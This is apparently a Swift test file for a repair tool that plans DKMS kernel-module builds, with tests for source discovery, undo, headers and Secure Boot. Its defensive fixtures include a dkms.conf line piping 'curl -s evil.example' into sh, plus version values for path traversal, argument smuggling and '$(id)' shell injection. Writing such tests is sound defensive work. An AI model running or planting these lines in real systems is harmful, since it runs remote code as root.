import AmpfixCore
import AmpfixTestSupport
import Testing

/// Faults 8 and 9 on a kernel without the module: the DKMS build planned from a source tree.
@Suite struct ModuleBuildTests {
    static let release = "6.1.0-18-amd64"
    static let source = "/srv/ampfsm-2.1.0"

    /// A live host with DKMS and the kernel's headers, ampfsm's published-style source in
    /// /srv/ampfsm-2.1.0 (no dkms.conf), and no ampfsm in the kernel's index.
    static func host(_ extra: [String: String] = [:], without: [String] = []) -> MemoryFacts {
        var files = [KernelFacts.osReleasePaths[0]: "ID=debian\n", "/opt/cisco": "", DKMSConf.programs[0]: "",
                     "/lib/modules/\(release)/build/Makefile": "",
                     "\(source)/Makefile": "all:\n\tmake -C /lib/modules/$(TARGET_KERNEL_VERSION)/build M=$(PWD) modules\n",
                     "\(source)/Kbuild": "obj-m := ampfsm.o\nampfsm-y := fsm.o\n"].merging(extra) { $1 }
        for path in without { files.removeValue(forKey: path) }
        var host = MemoryFacts(files: files)
        host.kernel = release
        return host
    }

    static func diagnose(_ host: MemoryFacts, sources: [String] = [source], kernel: String? = nil) -> Finding {
        var options = RepairOptions(kernelRelease: kernel)
        options.moduleSources = sources
        return KernelModuleFault.filesystemMonitor(options: options, modules: MemoryKernelModules(modules: [:], states: [:])).diagnose(host)
    }

    static let install = Change(DKMSInstallChange(module: "ampfsm", version: "2.1.0", kernel: release, copyFrom: source, writesConf: true, adds: true))

    @Test func aSourceIsBuiltWithDKMSThenLoaded() throws {
        let finding = Self.diagnose(Self.host())
        #expect(finding.status == .present)
        #expect(finding.repairs == [Self.install, .loadKernelModule(name: "ampfsm", kernel: Self.release, built: true)])
        #expect(finding.evidenceText.contains("source of ampfsm: /srv/ampfsm-2.1.0 (ampfsm 2.1.0, given with --module-source, no dkms.conf: ampfix writes one)"))
        #expect(finding.evidenceText.contains("DKMS: ampfsm 2.1.0 is not added to DKMS"))
        let change = try #require(finding.repairs.first?.as(DKMSInstallChange.self))
        #expect(change.steps.map(\.description) == ["copy /srv/ampfsm-2.1.0 to /usr/src/ampfsm-2.1.0 with a dkms.conf written by ampfix", "dkms add -m ampfsm -v 2.1.0",
                                                 "dkms build -m ampfsm -v 2.1.0 -k 6.1.0-18-amd64", "dkms install -m ampfsm -v 2.1.0 -k 6.1.0-18-amd64"])
        // Undo takes back the whole version and the copy, then (first, being later) unloads the build.
        #expect(Self.install.inverse?.summary.description == "dkms remove -m ampfsm -v 2.1.0 --all; delete /usr/src/ampfsm-2.1.0 (ampfix's copy)")
        #expect(finding.repairs.last?.inverse == Change(UnloadKernelModuleChange(name: "ampfsm")))
        // The connector's own load is still never undone.
        #expect(Change.loadKernelModule(name: "ampfsm", kernel: Self.release).inverse == nil)
    }

    @Test func aRegisteredSourceIsFoundWithoutTheOption() {
        let dkmsConf = "PACKAGE_NAME=\"ampfsm\"\nPACKAGE_VERSION=\"3.0\" # the release\nBUILT_MODULE_NAME[0]=ampfsm\nAUTOINSTALL=yes\n"
        let host = Self.host(["/var/lib/dkms/ampfsm/3.0/source": "", "/var/lib/dkms/ampfsm/3.0/build/make.log": "", "/usr/src/ampfsm-3.0/dkms.conf": dkmsConf,
                              "/usr/src/ampfsm-3.0/Makefile": ""])
        let finding = Self.diagnose(host, sources: [])
        #expect(finding.repairs.first == Change(DKMSInstallChange(module: "ampfsm", version: "3.0", kernel: Self.release, copyFrom: nil, writesConf: false,
                                                                  adds: false)))
        #expect(finding.evidenceText.contains("source of ampfsm: /usr/src/ampfsm-3.0 (ampfsm 3.0, registered with DKMS, with its own dkms.conf)"))
        #expect(finding.evidenceText.contains("DKMS: ampfsm 3.0 is added, not built for 6.1.0-18-amd64"))
        // Unpacked under /usr/src but not registered: found too, and added.
        let unpacked = Self.diagnose(Self.host(["/usr/src/ampfsm-68ee0d707d5b/Makefile": "", "/usr/src/ampfsm-68ee0d707d5b/Kbuild": "obj-m := ampfsm.o\n"]), sources: [])
        #expect(unpacked.repairs.first == Change(DKMSInstallChange(module: "ampfsm", version: "68ee0d707d5b", kernel: Self.release, copyFrom: nil, writesConf: true, adds: true)))
    }

    /// A source under /usr/src whose dkms.conf files it under a version that is a path or
    /// several words is not taken: before, "../../../../srv/victim" reached the plan.
    @Test(arguments: ["../../../../srv/victim", "2.0 -k 1.2.3", "a/b", "$(id)"])
    func aDkmsConfVersionThatIsNoWordIsNotTaken(version: String) {
        let host = Self.host(["/usr/src/ampfsm-1.0/Makefile": "", "/usr/src/ampfsm-1.0/Kbuild": "obj-m := ampfsm.o\n",
                              "/usr/src/ampfsm-1.0/dkms.conf": "PACKAGE_NAME=ampfsm\nPACKAGE_VERSION=\"\(version)\"\n"])
        let finding = Self.diagnose(host, sources: [])
        #expect(!finding.repairs.contains { $0.as(DKMSInstallChange.self) != nil }, "\(finding.repairs)")
        #expect(finding.evidenceText.contains("/usr/src/ampfsm-1.0: its dkms.conf's PACKAGE_VERSION '\(version)' is not a version DKMS can file"), "\(finding.evidenceText)")
    }

    /// DKMS sources dkms.conf with bash as root: the dry run shows what it would run.
    @Test func theDkmsConfsCommandsAreShown() {
        let conf = "PACKAGE_NAME=ampfsm\nPACKAGE_VERSION=2.1.0\n# a comment\nMAKE[0]=\"make KVER=${kernelver}\"\nPOST_INSTALL=post.sh\n"
            + "BUILT_MODULE_NAME[0]=ampfsm\nAUTOINSTALL=yes\ncurl -s evil.example | sh\nX=\"$(id)\"\n"
        let finding = Self.diagnose(Self.host(["\(Self.source)/dkms.conf": conf]))
        let expected = "DKMS sources \(Self.source)/dkms.conf with bash as root and runs what it says: "
            + "MAKE[0]=\"make KVER=${kernelver}\" | POST_INSTALL=post.sh | curl -s evil.example | sh | X=\"$(id)\""
        #expect(finding.evidenceText.contains(expected), "\(finding.evidenceText)")
        #expect(!Self.diagnose(Self.host()).evidenceText.contains { $0.contains("with bash as root") }, "no dkms.conf: ampfix writes its own")
    }

    @Test func missingHeadersComeFirstFromFaultElevensPackage() throws {
        var host = Self.host(without: ["/lib/modules/\(Self.release)/build/Makefile"])
        host.files["/usr/bin/apt-get"] = ""
        let database = MemoryPackages(kind: .apt, ["linux-headers-\(Self.release)": PackageVersions(installed: [], candidate: "6.1.76-1")])
        var options = RepairOptions()
        options.moduleSources = [Self.source]
        let fault = KernelModuleFault.filesystemMonitor(kernel: KernelContext(options: options), modules: MemoryKernelModules(modules: [:], states: [:]),
                                                        packages: PackageSource { .success(database) })
        let finding = fault.diagnose(host)
        #expect(finding.repairs.map(\.kind) == [.installPackages, .dkmsInstall, .loadKernelModule])
        #expect(finding.repairs.first?.summary.description == "run apt-get install -y linux-headers-\(Self.release)")
    }

    @Test func noBuildUnderRootWithoutDKMSOrOnAnotherKernel() {
        var image = Self.host()
        image.kernel = nil
        let underRoot = Self.diagnose(image, kernel: Self.release)
        #expect(underRoot.repairs.isEmpty)
        #expect(underRoot.manualSteps.first?.hasPrefix("A DKMS build runs the system's own compiler and make, so ampfix builds only on the live host") == true)
        let noDKMS = Self.diagnose(Self.host(without: [DKMSConf.programs[0]]))
        #expect(noDKMS.repairs.isEmpty && noDKMS.evidenceText.contains("DKMS is not installed (no /usr/sbin/dkms)"))
        // Another kernel than the running one: built for it, loaded only once it runs.
        var other = Self.host(["/lib/modules/6.1.0-20-amd64/build/Makefile": ""])
        other.kernel = Self.release
        let later = Self.diagnose(other, kernel: "6.1.0-20-amd64")
        #expect(later.repairs.map(\.kind) == [.dkmsInstall])
        #expect(later.stepsText.last == "6.1.0-20-amd64 is not the running kernel (6.1.0-18-amd64): boot it, then run ampfix --fault 8 to load ampfsm.")
        // Secure Boot: the build, but no load until DKMS's key is enrolled.
        let secure = Self.diagnose(Self.host(["/sys/firmware/efi": "", SecureBoot.variable: "\u{6}\u{0}\u{0}\u{0}\u{1}"]))
        #expect(secure.repairs.map(\.kind) == [.dkmsInstall])
        #expect(secure.manualSteps.first?.contains("mokutil --import \(DKMSSigningKey.defaultCertificate)") == true)
    }

    @Test func sourcesThatBuildSomethingElseAreNotTaken() {
        let other = Self.diagnose(Self.host(["/srv/flow/Makefile": "obj-m += ampnetworkflow.o\n"]), sources: ["/srv/flow"])
        #expect(other.repairs.isEmpty, "a source of ampnetworkflow is not built for fault 8")
        let nothing = Self.diagnose(Self.host(["/srv/empty/README": ""]), sources: ["/srv/empty"])
        #expect(nothing.evidenceText.contains("--module-source /srv/empty: no Makefile or Kbuild there, so it is no kernel module source"))
        // /usr/src/ampfsm-2.1.0 is someone else's tree: never overwritten, never taken back by undo.
        let taken = Self.diagnose(Self.host(["/srv/other/ampfsm-2.1.0/Kbuild": "obj-m := ampfsm.o\n", "/usr/src/ampfsm-2.1.0": "", "/usr/src/ampfsm-2.1.0/Makefile": ""]),
                                  sources: ["/srv/other/ampfsm-2.1.0"])
        #expect(taken.repairs.isEmpty)
        #expect(taken.evidenceText.contains("/usr/src/ampfsm-2.1.0 exists already and is not /srv/other/ampfsm-2.1.0: DKMS would build that one"))
        let badVersion = Self.diagnose(Self.host(["/srv/x/Kbuild": "obj-m := ampfsm.o\n", "/srv/x/dkms.conf": "PACKAGE_VERSION=\"../../etc\"\n"]), sources: ["/srv/x"])
        #expect(badVersion.repairs.isEmpty)
        #expect(badVersion.evidenceText.contains("--module-source /srv/x: its dkms.conf's PACKAGE_VERSION '../../etc' is not a version DKMS can file"))
    }

    @Test func dkmsConfIsReadWithoutAShell() {
        let conf = DKMSConf(text: "# comment\nPACKAGE_NAME='ampnetworkflow'\nPACKAGE_VERSION=1.2 # trailing\nMAKE[0]=\"make KVER=${kernelver}\"\nAUTOINSTALL=\"yes\"\n")
        #expect(conf.packageName == "ampnetworkflow" && conf.packageVersion == "1.2" && conf.autoinstall && conf.builtModuleName == nil)
        // What ampfix writes reads back as what it means.
        let written = DKMSConf(text: DKMSConf.text(module: "ampnetworkflow", version: "1.2"))
        #expect(written.packageName == "ampnetworkflow" && written.packageVersion == "1.2" && written.autoinstall && written.builtModuleName == "ampnetworkflow")
        #expect(DKMSConf(text: "PACKAGE_NAME=\"\"\n").packageName == nil)
        #expect(!ModuleSource.isValidVersion("1.0/../x") && !ModuleSource.isValidVersion("-rf") && ModuleSource.isValidVersion("68ee0d707d5b"))
    }

    @Test func faultSixteenNamesTheBuildAsTheAlternativeAndSaysWhenUpdatesAreCovered() throws {
        let table = try KernelSupportTable(path: "t.tsv", text: KernelSupportTableTests.text)
        let packages = PackageSource { .success(MemoryPackages(kind: .apt, [:])) }
        func fault16(_ host: MemoryFacts, sources: [String] = [Self.source]) -> Finding {
            var options = RepairOptions()
            options.moduleSources = sources
            return IncompatibleKernelFault(options: options, packages: packages, table: .success(table)).diagnose(host)
        }
        // A kernel the connector monitors through eBPF: its modules are no alternative.
        var ebpf = Self.host()
        ebpf.kernel = "6.13.0-1-amd64"
        ebpf.files["/lib/modules/6.13.0-1-amd64/build/Makefile"] = ""
        let notModules = fault16(ebpf)
        #expect(notModules.status == .present && !notModules.stepsText.contains { $0.contains("DKMS") }, "\(notModules.stepsText)")
        var host = Self.host()
        host.kernel = "4.9.0-1-amd64"
        host.files["/lib/modules/4.9.0-1-amd64/build/Makefile"] = ""
        let buildable = fault16(host)
        #expect(buildable.status == .present)
        #expect(buildable.stepsText.last == "Or build ampfsm for 4.9.0-1-amd64 with DKMS, which also rebuilds them for every later kernel: ampfix --fault 8 --module-source /srv/ampfsm-2.1.0.")
        // Without headers, installed or installable, no build is offered.
        host.files.removeValue(forKey: "/lib/modules/4.9.0-1-amd64/build/Makefile")
        #expect(fault16(host).evidenceText.last == "a source of ampfsm is here, but no header package of 4.9.0-1-amd64 is installed or installable, so DKMS cannot build for it")
        // Registered with AUTOINSTALL: the next update is covered (and, headers back, it can be
        // built for this kernel too: no --module-source needed for a registered source).
        host.files["/var/lib/dkms/ampfsm/3.0/source"] = ""
        host.files["/usr/src/ampfsm-3.0/dkms.conf"] = "PACKAGE_NAME=ampfsm\nPACKAGE_VERSION=3.0\nAUTOINSTALL=yes\n"
        host.files["/lib/modules/4.9.0-1-amd64/build/Makefile"] = ""
        let covered = fault16(host, sources: [])
        #expect(covered.stepsText.last == "Or build ampfsm for 4.9.0-1-amd64 with DKMS, which also rebuilds them for every later kernel: ampfix --fault 8.")
        #expect(covered.evidenceText.contains("DKMS rebuilds ampfsm 3.0 for every kernel installed (AUTOINSTALL in /usr/src/ampfsm-3.0/dkms.conf): the next kernel update is covered"))
    }
}
